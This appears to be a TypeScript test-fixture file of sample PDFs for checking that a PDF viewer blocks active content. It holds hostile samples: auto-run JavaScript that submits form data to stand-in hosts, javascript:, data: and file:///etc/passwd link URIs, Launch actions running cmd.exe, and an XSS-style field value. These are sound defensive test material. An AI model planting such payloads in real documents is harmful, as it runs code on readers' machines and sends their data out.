/** A frame agreement of four pages; the word delivery is once on the first and four times on the second. */
export const AGREEMENT =
  'JVBERi0xLjMKJf////8KOCAwIG9iago8PAovVHlwZSAvRXh0R1N0YXRlCi9jYSAxCi9DQSAxCj4+CmVuZG9iago3IDAgb2JqCjw8Ci9UeXBlIC9Q' +
  'YWdlCi9QYXJlbnQgMSAwIFIKL01lZGlhQm94IFswIDAgNDE5LjUzIDU5NS4yOF0KL0NvbnRlbnRzIDUgMCBSCi9SZXNvdXJjZXMgNiAwIFIKL1Vz' +
  'ZXJVbml0IDEKPj4KZW5kb2JqCjYgMCBvYmoKPDwKL1Byb2NTZXQgWy9QREYgL1RleHQgL0ltYWdlQiAvSW1hZ2VDIC9JbWFnZUldCi9FeHRHU3Rh' +
  'dGUgPDwKL0dzMSA4IDAgUgo+PgovRm9udCA8PAovRjEgOSAwIFIKL0YyIDEwIDAgUgo+PgovQ29sb3JTcGFjZSA8PAo+Pgo+PgplbmRvYmoKNSAw' +
  'IG9iago8PAovTGVuZ3RoIDMzMwovRmlsdGVyIC9GbGF0ZURlY29kZQo+PgpzdHJlYW0KeJy1lM1KBDEQhO95in6BzaY7SXUCwxwWdcGbMjfxFGfE' +
  'wwqy4PNLHP9AswfZXDMZ6ktVdTM5crRhchRztJKoHMx2f2R6PJrtxfz6VObb/Y7K0bj3q8fybBbzYvivH3fTxzlTcBR9skCg6WC2V0wsNC3mbvAs' +
  '81i/D+JGcvc0XZvLydycRTaKTQgt6ejhsahDPLtwfa9EGz9F5Vs0ICGr7/BawDoXWsKAykjsaADjAbEDQM42ZWkCMHQFUEFErBCYNXQAYTgbkJok' +
  'HstIHGlQjCSRBkSVLplwXqvXINGwetBFWyRZxziRx4we7ktk69vuq0ep+atDxgztQZCz9SeaKLWL6tcO1P3TYfy5VvCXdKiBF+SfxRtp4+tU5A5O' +
  'JFiV1KIBRqrSWFBQvoZC+4yCwHJGi0XrYuyxlTjACkvTg0UFYc0hun/U4Q1mMpYyCmVuZHN0cmVhbQplbmRvYmoKMTMgMCBvYmoKPDwKL1R5cGUg' +
  'L1BhZ2UKL1BhcmVudCAxIDAgUgovTWVkaWFCb3ggWzAgMCA0MTkuNTMgNTk1LjI4XQovQ29udGVudHMgMTEgMCBSCi9SZXNvdXJjZXMgMTIgMCBS' +
  'Ci9Vc2VyVW5pdCAxCj4+CmVuZG9iagoxMiAwIG9iago8PAovUHJvY1NldCBbL1BERiAvVGV4dCAvSW1hZ2VCIC9JbWFnZUMgL0ltYWdlSV0KL0V4' +
  'dEdTdGF0ZSA8PAovR3MxIDggMCBSCj4+Ci9Gb250IDw8Ci9GMSA5IDAgUgovRjIgMTAgMCBSCj4+Ci9Db2xvclNwYWNlIDw8Cj4+Cj4+CmVuZG9i' +
  'agoxMSAwIG9iago8PAovTGVuZ3RoIDYzNAovRmlsdGVyIC9GbGF0ZURlY29kZQo+PgpzdHJlYW0KeJy9mMFqG0EMhu/7FPMCUUYaza8ZMHsIbQO9' +
  'tfhWeom7W3pIoRj6/GXWTtIWy6coN2Ov+STNr3+k5ZRTTjeccqq9krR0eJxu74+cvh+n23fL7x+H5fP9XTocp7w9ejz8nNbp18SX/ni3P3/PSXOq' +
  'pRGgaf843X7gxJL26/RlV1SWefy+kzyn/DXtP07v99OnV8FWoQb10LqazEly2kFRx2euaWfl1cMY2Uul+hSC/BPCCW4lIP+WKefmwcEmqAFYzpnQ' +
  '1ONaxgGMggqNoJdOxcTNumOJoFahrH7ONvR1MwSGbjqCgA3lI0b53IWaH05VtJCjFwa1CrcMxarlTQB9qD4iAghJdjNHwYoFQN8ORMaBfAtpvsJM' +
  'bG4pULceaBFkzVTF7/tn0wlgD69jJb3UApvyW1ADmp68zoGr2Zx4eP0aAO+VWoef+RP6xQQezhYQ0PqaCUW8YKDgOZWcdtZDdM9o1KvPZywxvt+F' +
  'ymh8h7uA8Q01JGcpTPBztjC7rUyAq/q/zzqCboV68+krEEFtRuWqvuu4Xgxz2tx9m+xuTkUYfTgu3CXC97QzlQsTbo2fcB20PtfiXAU+VyEgeWsk' +
  'bzhoQCmzeNiXETPC7EFZmocOUj3n01TrUa+pPmTcVeLsFyHqasE1apjNcgOxqMu10+p4WqjQsFq1GO2JGvUrMjhfciEX7DDe3n12zFxXxjIJv/ZR' +
  'Z15kLLF+lz/N0HOq5xslaJUb5gojvvD24I2bvoFsGN/laKzggNU0pvNZyQo8dtyrjFJJxz3jcXGe7bfOD3qhYZV6UzeGsc+G5N47Fb/mz1vNyPsh' +
  'ZKjOVK8c+Wh8MPS/ae4P8OWORgplbmRzdHJlYW0KZW5kb2JqCjE2IDAgb2JqCjw8Ci9UeXBlIC9QYWdlCi9QYXJlbnQgMSAwIFIKL01lZGlhQm94' +
  'IFswIDAgNDE5LjUzIDU5NS4yOF0KL0NvbnRlbnRzIDE0IDAgUgovUmVzb3VyY2VzIDE1IDAgUgovVXNlclVuaXQgMQo+PgplbmRvYmoKMTUgMCBv' +
  'YmoKPDwKL1Byb2NTZXQgWy9QREYgL1RleHQgL0ltYWdlQiAvSW1hZ2VDIC9JbWFnZUldCi9FeHRHU3RhdGUgPDwKL0dzMSA4IDAgUgo+PgovRm9u' +
  'dCA8PAovRjEgOSAwIFIKL0YyIDEwIDAgUgo+PgovQ29sb3JTcGFjZSA8PAo+Pgo+PgplbmRvYmoKMTQgMCBvYmoKPDwKL0xlbmd0aCAyOTQKL0Zp' +
  'bHRlciAvRmxhdGVEZWNvZGUKPj4Kc3RyZWFtCnictZSxSgQxEIb7PMW8gLnMJPNPAssWh3pgp2wnFrrsisUJsuDzSw4VC6PNpQ0Tvv/7E4YpUKAL' +
  'pkBa1Eum+eh2h43peXO7y+X9ZV7uDnuaNxdOo9v86lb35vi3i/vp85wpBdKYPZBoOrrdNRMLTau7HyLHKMtYJwYJI4UHmm7c1eRuzwLW4jWiBVeB' +
  'WjI1wWLx7PBqLer1Cyzf4GRYsSJZ7OBs2SPnFtoEikcooiUoUocALMlbaCbAiqUHNbGP/3hHKIoF62Kdg7f61xrWXBN04Epgn1j+8raAGXyy72Eu' +
  'Gryh3byhWEJG6fLukpM3a/YeOfZoPdbWtUk1G4kDDVhNRrpgpQFPtQBYjzAJnkvzCyCBR4qBBit1zdU0def+SPEB66BPsgplbmRzdHJlYW0KZW5k' +
  'b2JqCjE5IDAgb2JqCjw8Ci9UeXBlIC9QYWdlCi9QYXJlbnQgMSAwIFIKL01lZGlhQm94IFswIDAgNDE5LjUzIDU5NS4yOF0KL0NvbnRlbnRzIDE3' +
  'IDAgUgovUmVzb3VyY2VzIDE4IDAgUgovVXNlclVuaXQgMQo+PgplbmRvYmoKMTggMCBvYmoKPDwKL1Byb2NTZXQgWy9QREYgL1RleHQgL0ltYWdl' +
  'QiAvSW1hZ2VDIC9JbWFnZUldCi9FeHRHU3RhdGUgPDwKL0dzMSA4IDAgUgo+PgovRm9udCA8PAovRjEgOSAwIFIKL0YyIDEwIDAgUgo+PgovQ29s' +
  'b3JTcGFjZSA8PAo+Pgo+PgplbmRvYmoKMTcgMCBvYmoKPDwKL0xlbmd0aCAyMjEKL0ZpbHRlciAvRmxhdGVEZWNvZGUKPj4Kc3RyZWFtCnictdK/' +
  'asQwDAbwXU+hF6gj2dZnG0KGo+1BtxZvpZPJHR2uUAJ9/pL0Dx3q7bIKiZ/QJ2Vh4RtlYSvmfOZ2oeG4KJ8XGm7nj9c2Px0P3BaSrXVpb3Sid9L/' +
  'Bg/1u64chS1kB0SuFxruldVzPdHzGDREP09rx+hlYnnh+kB3lR6vAltxFtDDY4NOrMZjSjvgGU6C7+FQzIg7sKriksSemwQNigC7urzG7M3ZD+p/' +
  'UQspTazCIwwRJQXkPS6eN7yzBLa4vewUt0pxQBfXJNvpCyyFr69bH//PEp8cXsPICmVuZHN0cmVhbQplbmRvYmoKMjEgMCBvYmoKKHBkZm1ha2Up' +
  'CmVuZG9iagoyMiAwIG9iagoocGRmbWFrZSkKZW5kb2JqCjIzIDAgb2JqCihEOjIwMjYxMTI1MjI0NTQyWikKZW5kb2JqCjIwIDAgb2JqCjw8Ci9Q' +
  'cm9kdWNlciAyMSAwIFIKL0NyZWF0b3IgMjIgMCBSCi9DcmVhdGlvbkRhdGUgMjMgMCBSCj4+CmVuZG9iago5IDAgb2JqCjw8Ci9UeXBlIC9Gb250' +
  'Ci9CYXNlRm9udCAvSGVsdmV0aWNhLUJvbGQKL1N1YnR5cGUgL1R5cGUxCi9FbmNvZGluZyAvV2luQW5zaUVuY29kaW5nCj4+CmVuZG9iagoxMCAw' +
  'IG9iago8PAovVHlwZSAvRm9udAovQmFzZUZvbnQgL0hlbHZldGljYQovU3VidHlwZSAvVHlwZTEKL0VuY29kaW5nIC9XaW5BbnNpRW5jb2RpbmcK' +
  'Pj4KZW5kb2JqCjQgMCBvYmoKPDwKPj4KZW5kb2JqCjMgMCBvYmoKPDwKL1R5cGUgL0NhdGFsb2cKL1BhZ2VzIDEgMCBSCi9OYW1lcyAyIDAgUgo+' +
  'PgplbmRvYmoKMSAwIG9iago8PAovVHlwZSAvUGFnZXMKL0NvdW50IDQKL0tpZHMgWzcgMCBSIDEzIDAgUiAxNiAwIFIgMTkgMCBSXQo+PgplbmRv' +
  'YmoKMiAwIG9iago8PAovRGVzdHMgPDwKICAvTmFtZXMgWwpdCj4+Cj4+CmVuZG9iagp4cmVmCjAgMjQKMDAwMDAwMDAwMCA2NTUzNSBmIAowMDAw' +
  'MDAzMzY5IDAwMDAwIG4gCjAwMDAwMDM0NDcgMDAwMDAgbiAKMDAwMDAwMzMwNyAwMDAwMCBuIAowMDAwMDAzMjg2IDAwMDAwIG4gCjAwMDAwMDAz' +
  'MzMgMDAwMDAgbiAKMDAwMDAwMDE4NyAwMDAwMCBuIAowMDAwMDAwMDY1IDAwMDAwIG4gCjAwMDAwMDAwMTUgMDAwMDAgbiAKMDAwMDAwMzA4NiAw' +
  'MDAwMCBuIAowMDAwMDAzMTg4IDAwMDAwIG4gCjAwMDAwMDEwMTAgMDAwMDAgbiAKMDAwMDAwMDg2MyAwMDAwMCBuIAowMDAwMDAwNzM4IDAwMDAw' +
  'IG4gCjAwMDAwMDE5ODkgMDAwMDAgbiAKMDAwMDAwMTg0MiAwMDAwMCBuIAowMDAwMDAxNzE3IDAwMDAwIG4gCjAwMDAwMDI2MjggMDAwMDAgbiAK' +
  'MDAwMDAwMjQ4MSAwMDAwMCBuIAowMDAwMDAyMzU2IDAwMDAwIG4gCjAwMDAwMDMwMTAgMDAwMDAgbiAKMDAwMDAwMjkyMiAwMDAwMCBuIAowMDAw' +
  'MDAyOTQ4IDAwMDAwIG4gCjAwMDAwMDI5NzQgMDAwMDAgbiAKdHJhaWxlcgo8PAovU2l6ZSAyNAovUm9vdCAzIDAgUgovSW5mbyAyMCAwIFIKL0lE' +
  'IFs8MWUyMjc4MmY0MGQ0NzllZTIyZTU3Nzg5MTVkZjg1OTA+IDwxZTIyNzgyZjQwZDQ3OWVlMjJlNTc3ODkxNWRmODU5MD5dCj4+CnN0YXJ0eHJl' +
  'ZgozNDk0CiUlRU9GCg==';

/** A page that the password moor opens. */
export const SEALED =
  'JVBERi0xLjMKJf////8KOSAwIG9iago8PAovVHlwZSAvRXh0R1N0YXRlCi9jYSAxCi9DQSAxCj4+CmVuZG9iago4IDAgb2JqCjw8Ci9UeXBlIC9Q' +
  'YWdlCi9QYXJlbnQgMSAwIFIKL01lZGlhQm94IFswIDAgNDE5LjUzIDU5NS4yOF0KL0NvbnRlbnRzIDYgMCBSCi9SZXNvdXJjZXMgNyAwIFIKL1Vz' +
  'ZXJVbml0IDEKPj4KZW5kb2JqCjcgMCBvYmoKPDwKL1Byb2NTZXQgWy9QREYgL1RleHQgL0ltYWdlQiAvSW1hZ2VDIC9JbWFnZUldCi9FeHRHU3Rh' +
  'dGUgPDwKL0dzMSA5IDAgUgo+PgovRm9udCA8PAovRjEgMTAgMCBSCj4+Ci9Db2xvclNwYWNlIDw8Cj4+Cj4+CmVuZG9iago2IDAgb2JqCjw8Ci9M' +
  'ZW5ndGggMTYzCi9GaWx0ZXIgL0ZsYXRlRGVjb2RlCj4+CnN0cmVhbQoRu8ZI20fuFVVvn25VltS8m+ZKi/pnBSnuJEb1KxcOwSyXK6gtvUrD9tsU' +
  '4VGnTOwSHLTNohh2KBdjaQoPberrhk1hG1eW8H6nUCj4+vLG0tDF2ALspOY6wvKJ/jHRXMzxFWZGhz0RDq/uuRh1ZwRn31+kwOKDMjKzM9obsGty' +
  'HgxWDOu/e+auLmziODns1Gu2MN0rlKuk2WFU/BXmPJx6oC9OCmVuZHN0cmVhbQplbmRvYmoKMTIgMCBvYmoKKNz5cFpyJfkpCmVuZG9iagoxMyAw' +
  'IG9iagoobffE1iXW4CkKZW5kb2JqCjE0IDAgb2JqCih3bYSobOrhfQHtWNFCAGEDeykKZW5kb2JqCjExIDAgb2JqCjw8Ci9Qcm9kdWNlciAxMiAw' +
  'IFIKL0NyZWF0b3IgMTMgMCBSCi9DcmVhdGlvbkRhdGUgMTQgMCBSCj4+CmVuZG9iagoxMCAwIG9iago8PAovVHlwZSAvRm9udAovQmFzZUZvbnQg' +
  'L0hlbHZldGljYQovU3VidHlwZSAvVHlwZTEKL0VuY29kaW5nIC9XaW5BbnNpRW5jb2RpbmcKPj4KZW5kb2JqCjQgMCBvYmoKPDwKPj4KZW5kb2Jq' +
  'CjMgMCBvYmoKPDwKL1R5cGUgL0NhdGFsb2cKL1BhZ2VzIDEgMCBSCi9OYW1lcyAyIDAgUgo+PgplbmRvYmoKMSAwIG9iago8PAovVHlwZSAvUGFn' +
  'ZXMKL0NvdW50IDEKL0tpZHMgWzggMCBSXQo+PgplbmRvYmoKMiAwIG9iago8PAovRGVzdHMgPDwKICAvTmFtZXMgWwpdCj4+Cj4+CmVuZG9iago1' +
  'IDAgb2JqCjw8Ci9GaWx0ZXIgL1N0YW5kYXJkCi9WIDEKL1IgMgovTyA8OGNmNDAzNDQxOTY2MmE3NzQ0NDJmYjA3MmUzZDlmMTllOWQxMzBlYzA5' +
  'YTRkMDA2MWU3OGZlOTIwZjdhYjYyZj4KL1UgPDQzOWZjMTc0M2RkYTI3ZTRiMWFhNGFhZDJkNzRhZmRiZjE2NDEyYTIzY2UwZmRhODViZjgzYjg3' +
  'MWMzMzUxYzI+Ci9QIC02NAo+PgplbmRvYmoKeHJlZgowIDE1CjAwMDAwMDAwMDAgNjU1MzUgZiAKMDAwMDAwMDkwMyAwMDAwMCBuIAowMDAwMDAw' +
  'OTYwIDAwMDAwIG4gCjAwMDAwMDA4NDEgMDAwMDAgbiAKMDAwMDAwMDgyMCAwMDAwMCBuIAowMDAwMDAxMDA3IDAwMDAwIG4gCjAwMDAwMDAzMjMg' +
  'MDAwMDAgbiAKMDAwMDAwMDE4NyAwMDAwMCBuIAowMDAwMDAwMDY1IDAwMDAwIG4gCjAwMDAwMDAwMTUgMDAwMDAgbiAKMDAwMDAwMDcyMiAwMDAw' +
  'MCBuIAowMDAwMDAwNjQ2IDAwMDAwIG4gCjAwMDAwMDA1NTggMDAwMDAgbiAKMDAwMDAwMDU4NCAwMDAwMCBuIAowMDAwMDAwNjEwIDAwMDAwIG4g' +
  'CnRyYWlsZXIKPDwKL1NpemUgMTUKL1Jvb3QgMyAwIFIKL0luZm8gMTEgMCBSCi9JRCBbPDBiY2FjMTA2ZjE5NDAyNTgzYTc1ZTlkN2FjODQ2Mjkx' +
  'PiA8MGJjYWMxMDZmMTk0MDI1ODNhNzVlOWQ3YWM4NDYyOTE+XQovRW5jcnlwdCA1IDAgUgo+PgpzdGFydHhyZWYKMTIwMwolJUVPRgo=';

/** A page whose file has a script that runs when it is opened, in programs that run scripts. */
export const SCRIPTED = btoa(`%PDF-1.4
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /AA <</O 4 0 R>>>> endobj
4 0 obj <</Type /Action /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('https://example.com'\\);)>> endobj
trailer <</Root 1 0 R>>`);

/** A PDF of objects, the first of which is its catalog; without a table of them, which readers make anew. */
const fileOf = (objects: readonly string[]) =>
  btoa(
    `%PDF-1.4\n${objects.map((object, at) => `${at + 1} 0 obj ${object} endobj`).join('\n')}\ntrailer <</Root 1 0 R>>`,
  );
const stream = (text: string) => `<</Length ${text.length}>> stream\n${text}\nendstream`;
const line = (text: string, y: number) => `BT /F1 12 Tf 20 ${y} Td (${text}) Tj ET`;
const link = (y: number, action: string) =>
  `<</Type /Annot /Subtype /Link /Border [0 0 0] /Rect [15 ${y - 5} 180 ${y + 13}] ${action}>>`;

/** Links that lead somewhere, by what is written there. */
const LINKS: readonly [string, string][] = [
  ['The supplier', '/A <</S /URI /URI (https://supplier.example/terms?a=1&b=2)>>'],
  ['Write to us', '/A <</S /URI /URI (mailto:orders@supplier.example)>>'],
  ['Annex', '/Dest [5 0 R /XYZ 0 200 null]'],
  ['Summary', '/A <</S /GoTo /D (summary)>>'],
];
/** Links that are not followed. */
const NEVER = [
  '/A <</S /URI /URI (javascript:hostileRan\\(\\))>>',
  '/A <</S /URI /URI (data:text/html,<script>opener.hostileRan\\(\\)</script>)>>',
  '/A <</S /URI /URI (file:///etc/passwd)>>',
  '/A <</S /URI /URI (ftp://elsewhere.example/a)>>',
  '/A <</S /URI /URI (vbscript:hostileRan)>>',
  '/A <</S /JavaScript /JS (hostileRan\\(\\); app.launchURL\\("https://elsewhere.example"\\))>>',
  '/A <</S /Launch /F (calc.exe)>>',
  '/A <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>',
  '/A <</S /GoToR /F (other.pdf) /D [0 /Fit]>>',
  '/A <</S /SubmitForm /F (https://elsewhere.example/send)>>',
  '/A <</S /ImportData /F (data.fdf)>>',
  '/A <</S /Named /N /Print>>',
  '/Dest (nowhere)',
  '/Dest [99 /Fit]',
];

/** Three pages: the first has four links that lead somewhere, and as many as there are kinds that do not. */
export const LINKED = fileOf([
  `<</Type /Catalog /Pages 2 0 R /Dests <</summary [4 0 R /Fit]>>>>`,
  `<</Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3>>`,
  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Resources <</Font <</F1 6 0 R>>>> /Contents 7 0 R /Annots [
    ${[...LINKS.map(([, action], at) => link(270 - at * 30, action)), ...NEVER.map((action) => link(20, action))].join('\n')}]>>`,
  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 300]>>`,
  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 300]>>`,
  `<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>`,
  stream(LINKS.map(([text], at) => line(text, 270 - at * 30)).join('\n')),
]);

/**
 * A page that everything which can happen by itself is said of: scripts, programs, forms, addresses, a file within. One link is good:
 * by it one knows that all have been read.
 */
export const HOSTILE_PDF = fileOf([
  `<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA <</WC 4 0 R /WP 5 0 R /DS 6 0 R>>
    /Names <</JavaScript <</Names [(run) 4 0 R]>> /EmbeddedFiles <</Names [(a) 8 0 R]>>>> /AcroForm <</Fields [7 0 R] /XFA 9 0 R>>>>`,
  `<</Type /Pages /Kids [3 0 R] /Count 1>>`,
  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /AA <</O 5 0 R /C 6 0 R>> /Annots [7 0 R ${link(170, LINKS[1]![1])} ${NEVER.map((action) => link(100, action)).join('\n')}]>>`,
  `<</Type /Action /S /JavaScript /JS (hostileRan\\(\\); app.alert\\('run'\\); this.submitForm\\('https://elsewhere.example'\\);)>>`,
  `<</Type /Action /S /URI /URI (https://elsewhere.example/opened) /Next 4 0 R>>`,
  `<</Type /Action /S /Launch /F (https://elsewhere.example/launched)>>`,
  `<</Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (<img src=/hostile-ping onerror=hostileRan\\(\\)>) /Rect [10 10 200 30] /AA <</K 4 0 R /F 4 0 R /V 4 0 R>> /A 4 0 R>>`,
  `<</Type /Filespec /F (https://elsewhere.example/file) /FS /URL>>`,
  stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>hostileRan()</script></xdp:xdp>`),
]);

export const bytesOf = (base64: string) => Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
